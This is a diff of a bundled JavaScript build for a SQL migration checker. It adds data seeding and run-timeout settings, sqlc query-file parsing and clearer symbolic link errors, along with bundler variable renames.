-  if (rows >= 1e9) return `${round2(rows / 1e9)}B`;
-  if (rows >= 1e6) return `${round2(rows / 1e6)}M`;
-  if (rows >= 1e3) return `${round2(rows / 1e3)}k`;
-  return String(rows);
+function formatCount2(rows2) {
+  if (rows2 >= 1e9) return `${round2(rows2 / 1e9)}B`;
+  if (rows2 >= 1e6) return `${round2(rows2 / 1e6)}M`;
+  if (rows2 >= 1e3) return `${round2(rows2 / 1e3)}k`;
+  return String(rows2);
 }
 function formatDuration(seconds2) {
   if (seconds2 < 1) return "under a second";
@@ -7760,11 +11919,11 @@ var init_merge = __esm({
 });
 
 // src/config/suggest.ts
-function closest(word, candidates) {
+function closest(word2, candidates) {
   let best;
-  let bestDistance = Math.max(2, Math.floor(word.length / 3)) + 1;
+  let bestDistance = Math.max(2, Math.floor(word2.length / 3)) + 1;
   for (const candidate of candidates) {
-    const distance = editDistance(word.toLowerCase(), candidate.toLowerCase());
+    const distance = editDistance(word2.toLowerCase(), candidate.toLowerCase());
     if (distance < bestDistance) {
       best = candidate;
       bestDistance = distance;
@@ -7865,7 +12024,7 @@ var init_config_schema = __esm({
           }
         },
         queries: {
-          description: "Query files to plan with EXPLAIN (the EXPLAIN phase of `check` is not released yet: the files are validated but not planned). Globs, folders (every .sql file below them) or files, relative to the config file. A file with sqlc annotations (-- name: GetOrder :one) holds one query per annotation, with its named parameters (@id, sqlc.arg(id), sqlc.narg(id), sqlc.slice(ids)) rewritten to $1..$n; any other file holds one query per statement.",
+          description: "Query files to plan with EXPLAIN during `check`, before and after the change, on seeded data. Globs, folders (every .sql file below them) or files, relative to the config file. A file with sqlc annotations (-- name: GetOrder :one) holds one query per annotation, with its named parameters (@id, sqlc.arg(id), sqlc.narg(id), sqlc.slice(ids)) rewritten to $1..$n; any other file holds one query per statement.",
           type: "array",
           items: {
             type: "string"
@@ -7918,6 +12077,38 @@ var init_config_schema = __esm({
             type: "string"
           }
         },
+        seed: {
+          description: "The data `check` plans queries on. After the existing migrations are replayed, the seed files run, then every table that is still empty gets generated rows: as many as `tables` gives for it (or the statistics file), at most max-rows, default-rows for a table without a size.",
+          type: "object",
+          additionalProperties: false,
+          properties: {
+            files: {
+              description: "SQL files that insert your own rows, run in order after the replay, each in a transaction of its own; tables they fill are not generated. Relative to the config file.",
+              type: "array",
+              items: {
+                type: "string"
+              }
+            },
+            "max-rows": {
+              description: "Rows per table at most (default 1000000).",
+              type: "integer",
+              minimum: 0
+            },
+            "default-rows": {
+              description: "Rows for a table that `tables` gives no size for (default 10000).",
+              type: "integer",
+              minimum: 0
+            },
+            "random-seed": {
+              description: "The same seed gives the same rows (default 1).",
+              type: "integer"
+            },
+            skew: {
+              description: "Some parents get many children and the first enum values are the most common, as in real data (default true).",
+              type: "boolean"
+            }
+          }
+        },
         tables: {
           description: "Production sizes of tables, by name (orders) or schema-qualified name (billing.invoices). `check` uses them to estimate how long a rewrite, scan or index build would hold its lock in production.",
           type: "object",
@@ -7940,6 +12131,11 @@ var init_config_schema = __esm({
           description: "Seconds a single statement may run during `check` before it is cancelled and reported (default 30).",
           type: "number",
           exclusiveMinimum: 0
+        },
+        "run-timeout": {
+          description: "Seconds the database part of `check` (replay, trace, seeding, EXPLAIN) may take in all before it is stopped; what finished is reported and the rest is named as not checked (default: no limit).",
+          type: "number",
+          exclusiveMinimum: 0
         }
       }
     };
@@ -7949,11 +12145,11 @@ var init_config_schema = __esm({
 // src/config/load.ts
 import { existsSync as existsSync2, readFileSync } from "node:fs";
 import { dirname, join as join2, resolve } from "node:path";
-import { Ajv } from "ajv";
+import { Ajv as Ajv2 } from "ajv";
 import { isMap, isPair, isScalar, isSeq, LineCounter, parseDocument } from "yaml";
-function validate(data) {
-  validator ??= new Ajv({ allErrors: true }).compile(config_schema_default);
-  return validator(data);
+function validate2(data) {
+  validator2 ??= new Ajv2({ allErrors: true }).compile(config_schema_default);
+  return validator2(data);
 }
 function findConfig(cwd) {
   for (let dir = resolve(cwd); ; dir = dirname(dir)) {
@@ -7965,18 +12161,20 @@ function findConfig(cwd) {
   }
 }
 function loadConfig(file, rules2, cwd) {
-  if (!file) return { file: void 0, root: cwd, migrations: [], queries: [], ignore: [], rules: {}, setup: [], tables: {}, statementTimeoutMs: void 0 };
-  let text;
+  if (!file) {
+    return { file: void 0, root: cwd, migrations: [], queries: [], ignore: [], rules: {}, setup: [], tables: {}, seed: { files: [] }, statementTimeoutMs: void 0, runTimeoutMs: void 0 };
+  }
+  let text2;
   try {
-    text = readFileSync(file, "utf8");
+    text2 = readFileSync(file, "utf8");
   } catch (error) {
     throw new UsageError(`${file}: cannot read the config file (${error.code ?? String(error)}).`);
   }
-  return parseConfig(text, file, rules2);
+  return parseConfig(text2, file, rules2);
 }
-function parseConfig(text, file, rules2) {
+function parseConfig(text2, file, rules2) {
   const lineCounter = new LineCounter();
-  const doc = parseDocument(text, { lineCounter, prettyErrors: false });
+  const doc = parseDocument(text2, { lineCounter, prettyErrors: false });
   const where = (offset) => {
     const pos = lineCounter.linePos(offset ?? 0);
     return `${file}:${pos.line}:${pos.col}`;
@@ -7986,8 +12184,8 @@ function parseConfig(text, file, rules2) {
     throw new UsageError(`${where(error.pos[0])}: invalid YAML: ${error.message.split("\n")[0]}`);
   }
   const data = doc.toJS() ?? {};
-  if (!validate(data)) {
-    const problems2 = simplify(validator?.errors ?? []).map((e) => `${where(offsetOf(doc, e))}: ${describe3(e, Object.keys(schemaProperties()))}`);
+  if (!validate2(data)) {
+    const problems2 = simplify2(validator2?.errors ?? []).map((e) => `${where(offsetOf(doc, e))}: ${describe4(e, Object.keys(schemaProperties()))}`);
     throw new UsageError(problems2.join("\n"));
   }
   const ruleIds = new Map(rules2.map((r) => [r.meta.id, r]));
@@ -8026,13 +12224,25 @@ function parseConfig(text, file, rules2) {
     rules: settings,
     setup: data.setup ?? [],
     tables: data.tables ?? {},
-    statementTimeoutMs: data["statement-timeout"] === void 0 ? void 0 : Number(data["statement-timeout"]) * 1e3
+    seed: seedConfig(data.seed ?? {}),
+    statementTimeoutMs: data["statement-timeout"] === void 0 ? void 0 : Number(data["statement-timeout"]) * 1e3,
+    runTimeoutMs: data["run-timeout"] === void 0 ? void 0 : Number(data["run-timeout"]) * 1e3
+  };
+}
+function seedConfig(seed) {
+  const optional = (key, name) => seed[key] === void 0 ? {} : { [name]: seed[key] };
+  return {
+    files: seed.files ?? [],
+    ...optional("max-rows", "maxRows"),
+    ...optional("default-rows", "defaultRows"),
+    ...optional("random-seed", "randomSeed"),
+    ...optional("skew", "skew")
   };
 }
 function schemaProperties() {
   return config_schema_default.properties;
 }
-function simplify(errors) {
+function simplify2(errors) {
   const specific = errors.filter((e) => e.keyword !== "anyOf");
   const kept = specific.filter(
     (e) => e.keyword !== "type" || !specific.some((other) => other !== e && other.keyword !== "type" && other.instancePath.startsWith(e.instancePath))
@@ -8047,14 +12257,14 @@ function simplify(errors) {
 function pathOf(error) {
   return error.instancePath.split("/").slice(1).map((p) => p.replace(/~1/g, "/").replace(/~0/g, "~"));
 }
-function describe3(error, topLevelKeys) {
-  const path2 = pathOf(error);
-  const name = path2.length ? path2.map((p, i) => /^\d+$/.test(p) ? `[${p}]` : i ? `.${p}` : p).join("") : "the config";
+function describe4(error, topLevelKeys) {
+  const path3 = pathOf(error);
+  const name = path3.length ? path3.map((p, i) => /^\d+$/.test(p) ? `[${p}]` : i ? `.${p}` : p).join("") : "the config";
   switch (error.keyword) {
     case "additionalProperties": {
       const key = error.params.additionalProperty;
-      const suggestion = path2.length === 0 ? closest(key, topLevelKeys) : void 0;
-      return `unknown key "${key}"${path2.length ? ` in ${name}` : ""}${suggestion ? ` (did you mean "${suggestion}"?)` : ""}.`;
+      const suggestion = path3.length === 0 ? closest(key, topLevelKeys) : void 0;
+      return `unknown key "${key}"${path3.length ? ` in ${name}` : ""}${suggestion ? ` (did you mean "${suggestion}"?)` : ""}.`;
     }
     case "enum":
       return `${name} must be one of ${error.params.allowedValues.map((v) => JSON.stringify(v)).join(", ")}.`;
@@ -8070,15 +12280,15 @@ function article(type) {
   return /^[aeiou]/.test(type) ? `an ${type}` : `a ${type}`;
 }
 function offsetOf(doc, error) {
-  const path2 = pathOf(error);
-  if (error.keyword === "additionalProperties") return keyOffset(doc, [...path2, error.params.additionalProperty]);
-  const node = doc.getIn(path2.map(segment), true);
-  return node?.range?.[0] ?? keyOffset(doc, path2);
+  const path3 = pathOf(error);
+  if (error.keyword === "additionalProperties") return keyOffset(doc, [...path3, error.params.additionalProperty]);
+  const node = doc.getIn(path3.map(segment), true);
+  return node?.range?.[0] ?? keyOffset(doc, path3);
 }
-function keyOffset(doc, path2) {
+function keyOffset(doc, path3) {
   let node = doc.contents;
   let offset = node?.range?.[0];
-  for (const part of path2) {
+  for (const part of path3) {
     if (isSeq(node) && /^\d+$/.test(part)) {
       node = node.items[Number(part)];
       offset = node?.range?.[0] ?? offset;
@@ -8095,7 +12305,7 @@ function keyOffset(doc, path2) {
 function segment(part) {
   return /^\d+$/.test(part) ? Number(part) : part;
 }
-var CONFIG_FILE_NAMES, validator;
+var CONFIG_FILE_NAMES, validator2;
 var init_load = __esm({
   "src/config/load.ts"() {
     "use strict";
@@ -8103,21 +12313,6 @@ var init_load = __esm({
     init_suggest();
     init_config_schema();
     CONFIG_FILE_NAMES = [".sql-preflight.yml", ".sql-preflight.yaml"];
-  }
-});
-
-// src/core/progress.ts
-var silentProgress;
-var init_progress = __esm({
-  "src/core/progress.ts"() {
-    "use strict";
-    silentProgress = {
-      phase: (_name, work) => work(),
-      step: () => {
-      },
-      note: () => {
-      }
-    };
   }
 });
 
@@ -8136,16 +12331,16 @@ function weighFormat(dir, fileNames, sampleTexts = {}) {
     disagreeing: votes.filter((v) => v.format !== void 0 && v.format !== format)
   };
 }
-function voteOf(dir, file, text) {
-  if (text !== void 0 && GOOSE_MARKER.test(text)) return "goose";
-  if (text !== void 0 && DBMATE_MARKER.test(text)) return "dbmate";
+function voteOf(dir, file, text2) {
+  if (text2 !== void 0 && GOOSE_MARKER.test(text2)) return "goose";
+  if (text2 !== void 0 && DBMATE_MARKER.test(text2)) return "dbmate";
   const [first, ...rest] = file.split("/");
   const base = rest.at(-1) ?? first;
   if (rest.length === 1 && base === "migration.sql") return "prisma";
   if (rest.length === 1 && (base === "up.sql" || base === "down.sql")) return "diesel";
   if (FLYWAY_NAME.test(base)) return "flyway";
   if (GOLANG_MIGRATE_NAME.test(base)) return "golang-migrate";
-  if (text?.includes(DRIZZLE_BREAKPOINT)) return "drizzle";
+  if (text2?.includes(DRIZZLE_BREAKPOINT)) return "drizzle";
   if (TIMESTAMPED.test(base) && /(^|\/)supabase\/migrations$/.test(dir)) return "supabase";
   return void 0;
 }
@@ -8153,8 +12348,8 @@ function majority(formats) {
   let best = "plain";
   let bestCount = 0;
   for (const format of PRIORITY) {
-    const count = formats.filter((f) => f === format).length;
-    if (count > bestCount) [best, bestCount] = [format, count];
+    const count2 = formats.filter((f) => f === format).length;
+    if (count2 > bestCount) [best, bestCount] = [format, count2];
   }
   return best;
 }
@@ -8199,9 +12394,9 @@ function compareBigInt(a, b) {
 function isDigits(s) {
   return s.charCodeAt(0) >= 48 && s.charCodeAt(0) <= 57;
 }
-function parseFlywayVersion(text) {
-  if (!/^\d+([._]\d+)*$/.test(text)) return void 0;
-  return text.split(/[._]/).map((part) => BigInt(part));
+function parseFlywayVersion(text2) {
+  if (!/^\d+([._]\d+)*$/.test(text2)) return void 0;
+  return text2.split(/[._]/).map((part) => BigInt(part));
 }
 function compareFlywayVersions(a, b) {
   for (let i = 0; i < Math.max(a.length, b.length); i++) {
@@ -8211,7 +12406,7 @@ function compareFlywayVersions(a, b) {
   return 0;
 }
 var CHUNKS;
-var init_order = __esm({
+var init_order2 = __esm({
   "src/migrations/order.ts"() {
     "use strict";
     CHUNKS = /\d+|\D+/g;
@@ -8419,23 +12614,23 @@ function planDrizzle(root, files, sql, plan, input, skip) {
     if (!tags.includes(rel.slice(0, -".sql".length))) skip(rel, "This file is not listed in meta/_journal.json, so drizzle's migrator does not run it.");
   }
 }
-var init_plan = __esm({
+var init_plan4 = __esm({
   "src/migrations/plan.ts"() {
     "use strict";
     init_detect();
-    init_order();
+    init_order2();
   }
 });
 
 // src/migrations/text.ts
 function decodeSql(bytes) {
-  const text = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength).toString("utf8");
+  const text2 = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength).toString("utf8");
   const invalid = firstInvalidUtf8(bytes);
   const nul = bytes.indexOf(0);
   if (invalid !== -1 && (nul === -1 || invalid < nul)) {
     const hex = bytes[invalid].toString(16).toUpperCase().padStart(2, "0");
     return {
-      text,
+      text: text2,
       readError: {
         message: `The file is not valid UTF-8: byte 0x${hex} at byte offset ${invalid} does not form a character, so it was not analysed.`,
         range: byteAt(invalid)
@@ -8444,14 +12639,14 @@ function decodeSql(bytes) {
   }
   if (nul !== -1) {
     return {
-      text,
+      text: text2,
       readError: {
         message: `The file contains a NUL byte at byte offset ${nul}: it is a binary file, not SQL text, so it was not analysed.`,
         range: byteAt(nul)
       }
     };
   }
-  return { text };
+  return { text: text2 };
 }
 function byteAt(offset) {
   return { start: offset, end: offset + 1 };
@@ -8482,18 +12677,18 @@ function firstInvalidUtf8(bytes) {
   }
   return -1;
 }
-function splitLines(text) {
+function splitLines(text2) {
   const lines = [];
   let offset = 0;
-  for (const raw of text.split("\n")) {
+  for (const raw of text2.split("\n")) {
     const content = raw.endsWith("\r") ? raw.slice(0, -1) : raw;
     lines.push({ text: content, start: offset, end: offset + Buffer.byteLength(content, "utf8") });
     offset += Buffer.byteLength(raw, "utf8") + 1;
   }
   return lines;
 }
-function byteLength(text) {
-  return Buffer.byteLength(text, "utf8");
+function byteLength(text2) {
+  return Buffer.byteLength(text2, "utf8");
 }
 var init_text3 = __esm({
   "src/migrations/text.ts"() {
@@ -8543,22 +12738,22 @@ function readMigrationFile(input) {
   file.transaction = input.transaction ?? transaction;
   return { file, problems };
 }
-function readGoose(text, problems) {
+function readGoose(text2, problems) {
   const markers = [];
   let noTransaction = false;
-  splitLines(text).forEach((line, i) => {
+  splitLines(text2).forEach((line, i) => {
     if (!line.text.startsWith("--")) return;
     const annotation2 = line.text.slice(2).trim();
     if (annotation2 === "+goose Up") markers.push({ kind: "up", line, number: i + 1 });
     else if (annotation2 === "+goose Down") markers.push({ kind: "down", line, number: i + 1 });
     else if (annotation2 === "+goose NO TRANSACTION") noTransaction = true;
   });
-  return { ...sections(text, markers, "goose", "'-- +goose Up'", problems), noTransaction };
+  return { ...sections(text2, markers, "goose", "'-- +goose Up'", problems), noTransaction };
 }
-function readDbmate(text, problems) {
+function readDbmate(text2, problems) {
   const markers = [];
   let noTransaction = false;
-  splitLines(text).forEach((line, i) => {
+  splitLines(text2).forEach((line, i) => {
     const up = DBMATE_UP.test(line.text);
     const down = DBMATE_DOWN.test(line.text);
     const indented = DBMATE_INDENTED.exec(line.text);
@@ -8571,17 +12766,17 @@ function readDbmate(text, problems) {
     const kind = up || indented?.[1] === "up" ? "up" : "down";
     markers.push({ kind, line, number: i + 1 });
     if (kind === "up" && markers.filter((m) => m.kind === "up").length === 1) {
-      noTransaction = line.text.trim().split(/\s+/).some((word) => word === "transaction:false");
+      noTransaction = line.text.trim().split(/\s+/).some((word2) => word2 === "transaction:false");
     }
   });
-  const result2 = sections(text, markers, "dbmate", "'-- migrate:up'", problems);
+  const result2 = sections(text2, markers, "dbmate", "'-- migrate:up'", problems);
   if (!markers.some((m) => m.kind === "down")) {
     problems.push("The file has no '-- migrate:down' marker: dbmate 2 refuses to run a migration without a down block.");
   }
   return { ...result2, noTransaction };
 }
-function sections(text, markers, tool, upName, problems) {
-  const end2 = byteLength(text);
+function sections(text2, markers, tool, upName, problems) {
+  const end2 = byteLength(text2);
   const up = markers.find((m) => m.kind === "up");
   const skipped = [];
   if (!up) {
@@ -8590,7 +12785,7 @@ function sections(text, markers, tool, upName, problems) {
     if (markers.filter((m) => m.kind === "up").length > 1) {
       problems.push(`The file has more than one ${upName} marker: ${tool} refuses to run it.`);
     }
-    const before = splitLines(text).slice(0, markers[0].number - 1);
+    const before = splitLines(text2).slice(0, markers[0].number - 1);
     const statement = before.findIndex((line) => line.text.trim() !== "" && !line.text.trim().startsWith("--"));
     if (statement !== -1) {
       problems.push(`Line ${statement + 1} has SQL before the ${upName} marker: ${tool} refuses to run the file.`);
@@ -8605,17 +12800,17 @@ function sections(text, markers, tool, upName, problems) {
   if (down) skipped.push({ start: down.line.start, end: end2 });
   return { skipped, down: down ? [{ start: 0, end: down.line.start }] : void 0 };
 }
-function flywayTransaction(text, settings, problems) {
+function flywayTransaction(text2, settings, problems) {
   const configured = settings !== void 0 && /^[ \t]*executeInTransaction[ \t]*[=:][ \t]*false[ \t]*$/im.test(settings);
-  const parsed = parseSql(text.charCodeAt(0) === 65279 ? maskRanges(text, [{ start: 0, end: 3 }]) : text);
+  const parsed = parseSql(text2.charCodeAt(0) === 65279 ? maskRanges(text2, [{ start: 0, end: 3 }]) : text2);
   if (!parsed.ok) return configured ? "none" : "transaction";
   const outside = parsed.statements.filter(cannotRunInFlywayTransaction);
   if (outside.length > 0 && outside.length < parsed.statements.length) {
-    const lines = new LineIndex(text);
+    const lines = new LineIndex(text2);
     const first = outside[0];
-    const label = lines.slice(first.range).split(/\s+/).slice(0, 4).join(" ");
+    const label2 = lines.slice(first.range).split(/\s+/).slice(0, 4).join(" ");
     problems.push(
-      `The script mixes a statement that cannot run in a transaction (${label} on line ${lines.position(first.range.start).line}) with statements that can: Flyway refuses to run it unless 'mixed' is true, and then runs it without a transaction.`
+      `The script mixes a statement that cannot run in a transaction (${label2} on line ${lines.position(first.range.start).line}) with statements that can: Flyway refuses to run it unless 'mixed' is true, and then runs it without a transaction.`
     );
   }
   return configured || outside.length > 0 ? "none" : "transaction";
@@ -8710,7 +12905,7 @@ async function discoverMigrations(cwd, targets, config = [], ignore = []) {
     if (info instanceof Error) {
       problems.push({ kind: "path", path: target, message: info.code === "ENOENT" ? "No such file or directory." : `Cannot read it (${info.code ?? info.message}).` });
     } else if (info.isDirectory()) {
-      const files = (await walk(cwd, abs, problems)).filter(keep);
+      const files = (await walk3(cwd, abs, problems)).filter(keep);
       if (!files.some((f) => f.path.endsWith(".sql"))) problems.push({ kind: "path", path: display(cwd, abs), message: "No .sql files found." });
       const forced = configs.filter((c) => c.format && c.format !== "auto").map((c) => ({ root: c.path, format: c.format }));
       for (const { root, files: claimed } of claimFolders(display(cwd, abs), files, forced)) addFolder(root, claimed, void 0);
@@ -8733,13 +12928,13 @@ async function readFolder(root, folder, config, problems) {
     const rel = posix2.relative(root, found.path);
     if (rel.endsWith(".sql")) files.set(rel, { path: found.path, ...load(found.abs) });
     else if (SIDE_FILES.test(rel)) {
-      let text = "";
+      let text2 = "";
       try {
-        text = readFileSync2(found.abs, "utf8");
+        text2 = readFileSync2(found.abs, "utf8");
       } catch (error) {
         problems.push({ kind: "path", path: found.path, message: `The file could not be read (${error.code ?? error.message}); read as empty.` });
       }
-      files.set(rel, { path: found.path, text });
+      files.set(rel, { path: found.path, text: text2 });
     }
   }
   const wanted = (rel) => !folder.selected || folder.selected.has(files.get(rel).path);
@@ -8848,9 +13043,10 @@ async function entries(cwd, dir, problems) {
     let isDirectory = dirent.isDirectory();
     let isFile = dirent.isFile();
     if (dirent.isSymbolicLink()) {
-      const target = await stat(abs).catch(() => void 0);
-      if (!target) {
-        problems.push({ kind: "path", path: display(cwd, abs), message: "Broken symbolic link: its target does not exist." });
+      const target = await stat(abs).catch((error) => error);
+      if (target instanceof Error) {
+        const message = target.code === "ELOOP" ? "Symbolic link loop: it leads back to itself through links; not followed." : target.code === "ENOENT" ? "Broken symbolic link: its target does not exist." : `Cannot follow the symbolic link (${target.code ?? target.message}).`;
+        problems.push({ kind: "path", path: display(cwd, abs), message });
         continue;
       }
       [isDirectory, isFile] = [target.isDirectory(), target.isFile()];
@@ -8859,7 +13055,7 @@ async function entries(cwd, dir, problems) {
   }
   return result2;
 }
-async function walk(cwd, root, problems) {
+async function walk3(cwd, root, problems) {
   const files = [];
   const walked = /* @__PURE__ */ new Set();
   const links = [];
@@ -8908,8 +13104,8 @@ var init_discover = __esm({
     "use strict";
     init_parse();
     init_detect();
-    init_order();
-    init_plan();
+    init_order2();
+    init_plan4();
     init_read();
     init_text3();
     SKIPPED_DIRECTORIES = /* @__PURE__ */ new Set(["node_modules", ".git"]);
@@ -8928,6 +13124,408 @@ var init_migrations = __esm({
   }
 });
 
+// src/queries/types.ts
+var SQLC_COMMANDS;
+var init_types2 = __esm({
+  "src/queries/types.ts"() {
+    "use strict";
+    SQLC_COMMANDS = [
+      ":one",
+      ":many",
+      ":exec",
+      ":execrows",
+      ":execresult",
+      ":execlastid",
+      ":copyfrom",
+      ":batchexec",
+      ":batchmany",
+      ":batchone"
+    ];
+  }
+});
+
+// src/queries/sqlc.ts
+function readAnnotation(line) {
+  const prefix = line.startsWith("--") ? "--" : line.startsWith("/*") ? "/*" : void 0;
+  if (!prefix) return void 0;
+  const rest = line.slice(prefix.length);
+  if (!rest.trim().startsWith("name") || !rest.includes(":")) return void 0;
+  const expected = `${prefix} name: <Name> <:command>${prefix === "/*" ? " */" : ""}`;
+  if (!rest.startsWith(" name: ")) return { problem: `sqlc cannot read this annotation: it must read "${expected}".` };
+  const parts = line.trim().split(" ");
+  if (prefix === "/*") parts.pop();
+  if (parts.length === 3) return { problem: `The annotation names no command; sqlc needs one of ${COMMAND_LIST}.` };
+  if (parts.length !== 4) return { problem: `sqlc cannot read this annotation: it must read "${expected}", words separated by single spaces.` };
+  const [, , name, command] = parts;
+  if (!COMMANDS.has(command)) return { name, problem: `"${command}" is not a sqlc command; use one of ${COMMAND_LIST}.` };
+  if (!GO_IDENTIFIER.test(name)) return { command, problem: `"${name}" is not a valid sqlc query name: sqlc needs a Go identifier.` };
+  return { name, command };
+}
+function identifier(token) {
+  if (!token) return void 0;
+  const quoted = QUOTED_IDENTIFIER.exec(token.text);
+  if (quoted) return quoted[1].replace(/""/g, '"');
+  return UNQUOTED_IDENTIFIER.test(token.text) ? token.text.replace(/[A-Z]/g, (c) => c.toLowerCase()) : void 0;
+}
+function rewriteParameters(bytes, range2, tokens, named) {
+  const positional = /* @__PURE__ */ new Set();
+  for (const token of tokens) {
+    const param = PARAM.exec(token.text);
+    if (param) positional.add(Number(param[1]));
+  }
+  const uses = [];
+  const embeds = [];
+  let problem;
+  for (let i = 0; named && i < tokens.length; i++) {
+    const token = tokens[i];
+    const next = tokens[i + 1];
+    if (token.text === "@" && next && next.range.start === token.range.end) {
+      const name2 = identifier(next);
+      if (name2 !== void 0) {
+        uses.push({ range: { start: token.range.start, end: next.range.end }, name: name2, nullable: false, list: false });
+        i++;
+      }
+      continue;
+    }
+    if (identifier(token) !== "sqlc" || next?.text !== "." || tokens[i + 3]?.text !== "(") continue;
+    const macro = identifier(tokens[i + 2]);
+    const callee = { start: token.range.start, end: tokens[i + 2].range.end };
+    if (macro === void 0 || !MACROS.has(macro)) {
+      problem = { message: `sqlc.${tokens[i + 2].text} is not a sqlc macro: sqlc knows sqlc.arg, sqlc.narg, sqlc.slice and sqlc.embed.`, range: callee };
+      break;
+    }
+    const argument = tokens[i + 4];
+    const close = tokens[i + 5];
+    const name = close?.text === ")" ? identifier(argument) ?? STRING.exec(argument.text)?.[1]?.replace(/''/g, "'") : void 0;
+    if (name === void 0) {
+      problem = { message: `sqlc.${macro} takes one name, an identifier or a string literal.`, range: callee };
+      break;
+    }
+    const call = { start: token.range.start, end: close.range.end };
+    if (macro === "embed") embeds.push({ range: call, text: `${identifier(argument) === void 0 ? quote2(name) : argument.text}.*` });
+    else uses.push({ range: call, name, nullable: macro === "narg", list: macro === "slice" });
+    i += 5;
+  }
+  const numbers = /* @__PURE__ */ new Map();
+  const parameters = /* @__PURE__ */ new Map();
+  let free = 1;
+  const edits = [...embeds];
+  for (const use of uses) {
+    let index = numbers.get(use.name);
+    if (index === void 0) {
+      while (positional.has(free) || parameters.has(free)) free++;
+      index = free;
+      numbers.set(use.name, index);
+      parameters.set(index, { index, name: use.name });
+    }
+    const parameter = parameters.get(index);
+    if (use.nullable) parameter.nullable = true;
+    if (use.list) parameter.list = true;
+    edits.push({ range: use.range, text: `$${index}` });
+  }
+  const count2 = Math.max(0, ...positional, ...parameters.keys());
+  return {
+    ...applyEdits(bytes, range2, edits.sort((a, b) => a.range.start - b.range.start)),
+    parameters: Array.from({ length: count2 }, (_, i) => parameters.get(i + 1) ?? { index: i + 1 }),
+    ...problem ? { problem } : {}
+  };
+}
+function quote2(name) {
+  return `"${name.replace(/"/g, '""')}"`;
+}
+function applyEdits(bytes, range2, edits) {
+  const parts = [];
+  const pieces = [];
+  let at = 0;
+  const push = (part, from, copied) => {
+    parts.push(part);
+    pieces.push({ at, from, length: part.length, copied });
+    at += part.length;
+  };
+  let cursor = range2.start;
+  for (const edit of edits) {
+    push(bytes.subarray(cursor, edit.range.start), cursor, true);
+    push(Buffer.from(edit.text, "utf8"), edit.range.start, false);
+    cursor = edit.range.end;
+  }
+  push(bytes.subarray(cursor, range2.end), cursor, true);
+  return {
+    sql: Buffer.concat(parts).toString("utf8"),
+    origin: (offset) => {
+      const piece = pieces.find((p) => offset < p.at + p.length);
+      if (!piece) return range2.end;
+      return piece.copied ? piece.from + offset - piece.at : piece.from;
+    }
+  };
+}
+var COMMANDS, COMMAND_LIST, GO_IDENTIFIER, PARAM, UNQUOTED_IDENTIFIER, QUOTED_IDENTIFIER, STRING, MACROS;
+var init_sqlc = __esm({
+  "src/queries/sqlc.ts"() {
+    "use strict";
+    init_types2();
+    COMMANDS = new Set(SQLC_COMMANDS);
+    COMMAND_LIST = SQLC_COMMANDS.join(", ");
+    GO_IDENTIFIER = /^[\p{L}_][\p{L}\p{Nd}_]*$/u;
+    PARAM = /^\$(\d+)$/;
+    UNQUOTED_IDENTIFIER = /^[A-Za-z_\u0080-\u{10FFFF}][A-Za-z0-9_$\u0080-\u{10FFFF}]*$/u;
+    QUOTED_IDENTIFIER = /^"((?:[^"]|"")+)"$/s;
+    STRING = /^'((?:[^']|'')*)'$/s;
+    MACROS = /* @__PURE__ */ new Set(["arg", "narg", "slice", "embed"]);
+  }
+});
+
+// src/queries/read.ts
+import { scanSync as scanSync4 } from "libpg-query";
+function readQueryFile(path3, text2) {
+  const bom = text2.charCodeAt(0) === BOM2 ? 3 : 0;
+  const executed = maskRanges(text2, bom ? [{ start: 0, end: 3 }] : []);
+  const bytes = Buffer.from(executed, "utf8");
+  const annotations = findAnnotations(executed, bytes, bom);
+  return annotations.some((a) => !a.problem) ? sqlcQueries(path3, bytes, annotations) : plainQueries(path3, bytes, executed);
+}
+function sqlcQueries(path3, bytes, annotations) {
+  return annotations.map((annotation2, i) => {
+    const base = {
+      file: path3,
+      ...annotation2.name ? { name: annotation2.name } : {},
+      ...annotation2.command ? { command: annotation2.command } : {}
+    };
+    const end2 = annotations[i + 1]?.range.start ?? bytes.length;
+    const outcome = parseAt(bytes, annotation2.range.start, end2);
+    if (!outcome.ok) return unparsed(base, contentRange(bytes, annotation2.range.end, end2), outcome.error);
+    const statement = outcome.statements[0];
+    if (!statement) {
+      const problem = { message: "The annotation is followed by no statement.", range: annotation2.range };
+      return { ...base, sql: "", parameters: [], range: annotation2.range, plannable: false, problem };
+    }
+    const query = toQuery(base, bytes, statement, true);
+    return annotation2.problem ? { ...query, problem: { message: annotation2.problem, range: annotation2.range } } : query;
+  });
+}
+function plainQueries(path3, bytes, text2) {
+  const base = { file: path3 };
+  const parsed = parseSql(text2, bytes.length);
+  if (parsed.ok) return parsed.statements.map((statement) => toQuery(base, bytes, statement, false));
+  const semicolons = semicolonEnds(text2);
+  if (!semicolons) return [unparsed(base, contentRange(bytes, 0, bytes.length), parsed.error)];
+  const queries = [];
+  let start = 0;
+  for (const end2 of [...semicolons, bytes.length]) {
+    const outcome = parseAt(bytes, start, end2);
+    if (outcome.ok) queries.push(...outcome.statements.map((statement) => toQuery(base, bytes, statement, false)));
+    else queries.push(unparsed(base, contentRange(bytes, start, end2), outcome.error));
+    start = end2;
+  }
+  return queries;
+}
+function toQuery(base, bytes, statement, named) {
+  const rewrite = rewriteParameters(bytes, statement.range, statement.tokens, named);
+  const reason = skipReason(statement, base.command);
+  const query = {
+    ...base,
+    sql: rewrite.sql,
+    parameters: rewrite.parameters,
+    range: statement.range,
+    plannable: reason === void 0,
+    ...reason ? { skipReason: reason } : {}
+  };
+  let problem = rewrite.problem;
+  if (!problem && rewrite.sql !== bytes.toString("utf8", statement.range.start, statement.range.end)) {
+    const checked = parseSql(rewrite.sql);
+    if (!checked.ok) {
+      const at = rewrite.origin(checked.error.offset ?? 0);
+      problem = { message: `${checked.error.message} (once the sqlc parameters are written as $n)`, range: { start: at, end: at } };
+    }
+  }
+  return problem ? { ...query, problem } : query;
+}
+function skipReason(statement, command) {
+  if (command === ":copyfrom") {
+    return "sqlc runs a :copyfrom query as COPY FROM STDIN into the INSERT's table and columns, not as the INSERT itself, and EXPLAIN cannot plan a COPY.";
+  }
+  if (!PLANNABLE.has(statement.type)) {
+    return `${statement.tokens[0]?.text.toUpperCase() ?? statement.type} is not a query EXPLAIN can plan: only SELECT, INSERT, UPDATE, DELETE and MERGE are.`;
+  }
+  if (statement.node.intoClause) return "SELECT INTO creates a table (it is CREATE TABLE AS), so it is not planned as a query.";
+  return void 0;
+}
+function unparsed(base, range2, error) {
+  const at = error.offset ?? range2.start;
+  return { ...base, sql: "", parameters: [], range: range2, plannable: false, problem: { message: error.message, range: { start: at, end: at } } };
+}
